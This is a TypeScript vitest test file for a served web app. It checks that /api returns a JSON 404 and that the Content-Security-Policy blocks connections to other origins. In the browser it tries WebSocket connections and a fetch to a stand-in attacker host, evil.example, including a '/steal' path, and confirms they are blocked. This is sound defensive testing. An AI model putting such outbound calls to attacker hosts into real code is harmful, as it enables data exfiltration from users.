import { describe, expect, inject, it } from "vitest";
import { useBrowser } from "./browser";

/** Issue 14, as the app is served: the API root is the API's 404, and pages may only talk to this site. */

const browser = useBrowser();

describe("the served app", () => {
  it("answers GET /api (no slash) with the API's JSON 404, not the SPA", async () => {
    const res = await fetch(`${inject("baseUrl")}/api`);
    expect(res.status).toBe(404);
    expect(res.headers.get("Content-Type")).toMatch(/application\/json/);
    expect(await res.json()).toMatchObject({ error: { code: "not_found" } });
  });

  it("lets a page open sockets and requests to this site only (CSP connect-src)", async () => {
    const res = await fetch(`${inject("baseUrl")}/`);
    expect(res.headers.get("Content-Security-Policy")).toMatch(/connect-src 'self';/);

    const page = await browser.page();
    await page.goto("/");
    const blocked = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.blockedURI));
      const tryOpen = (url: string) => {
        try {
          new WebSocket(url).close();
        } catch {
          violations.push(url);
        }
      };
      tryOpen("ws://evil.example/ws");
      tryOpen("wss://evil.example/ws");
      tryOpen(`${location.origin.replace(/^http/, "ws")}/ws`);
      await fetch("http://evil.example/steal").catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return violations;
    });
    expect(blocked.some((url) => url.includes("evil.example/ws"))).toBe(true);
    expect(blocked.some((url) => url.includes("evil.example/steal"))).toBe(true);
    expect(blocked.some((url) => url.includes(new URL(inject("baseUrl")).host))).toBe(false);
  });
});
